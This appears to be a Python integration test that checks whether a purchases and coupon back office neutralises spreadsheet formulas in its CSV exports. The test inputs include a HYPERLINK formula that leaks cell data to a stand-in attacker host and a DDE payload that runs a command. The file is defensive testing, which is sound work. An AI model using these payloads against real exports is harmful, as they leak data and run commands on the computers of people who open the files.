"""Issue 40 finding 2: spreadsheet formulas reached the CSVs we hand out.

As it ran: a buyer asked for a tax invoice with ``=HYPERLINK(...)`` as the company's name and formulas in the other
fields, and finance's ``tax-invoices.csv`` carried them unescaped, to be run by whoever opened it in a spreadsheet;
a coupon group's name reached its codes CSV the same way. Now every CSV we write (eventlog/csv_files.py) starts
such a cell with ``'``, so a spreadsheet shows it as text; what was asked for is kept as it was typed.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.integration.purchases.desk import Desk
from tests.integration.purchases.test_papers_api import BUSINESS_NUMBER, _order, _pay
from tests.security.back_office import first_owner

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_formulas_typed_into_a_tax_invoice_request_reach_finance_as_text(desk: Desk) -> None:
    transfer = _order(desk, "bankTransfer")
    _pay(desk, transfer)
    desk.views_caught_up()
    invoice = {
        "businessNumber": BUSINESS_NUMBER,
        "companyName": HYPERLINK,
        "representative": "+SUM(1,2)",
        "address": "@cmd|' /C calc'!A0",
        "email": "tax@adfree.example",
    }
    asked = desk.call("POST", f"/payments/licenses/{transfer['merchantUid']}/tax-invoice", json=invoice)
    assert asked.status_code == 200, asked.text

    finance = first_owner(desk).invite("money@example.com", ["finance"])
    export = finance.call("GET", "/finance/tax-invoices.csv")
    assert export.status_code == 200, export.text
    [_, row] = rows(export.content)
    assert row[2:5] == [f"'{HYPERLINK}", "'+SUM(1,2)", "'@cmd|' /C calc'!A0"], "text, not formulas"
    assert int(row[8]) == transfer["amount"], "numbers stay numbers"
    queue = finance.call("GET", "/finance/tax-invoices").json()
    assert queue[0]["companyName"] == HYPERLINK, "the request is kept as it was typed"


def test_a_coupon_groups_name_reaches_its_codes_csv_as_text(desk: Desk) -> None:
    ads = first_owner(desk).invite("ads@example.com", ["marketing"])
    group = {
        "name": HYPERLINK,
        "couponGroupType": "private",
        "constraintType": "none",
        "availableDuration": 30,
        "factor": "0.1",
        "subIssuedCount": 1,
        "issuedCount": 2,
        "reason": "partners",
    }
    created = ads.call("POST", "/coupon-groups", json=group)
    assert created.status_code == 201, created.text
    exported = ads.call("GET", f"/coupon-groups/{created.json()['couponGroup']['id']}/codes.csv")
    assert exported.status_code == 200, exported.text
    header, *codes = rows(exported.content)
    assert header[-1] == "group" and codes
    assert {row[-1] for row in codes} == {f"'{HYPERLINK}"}
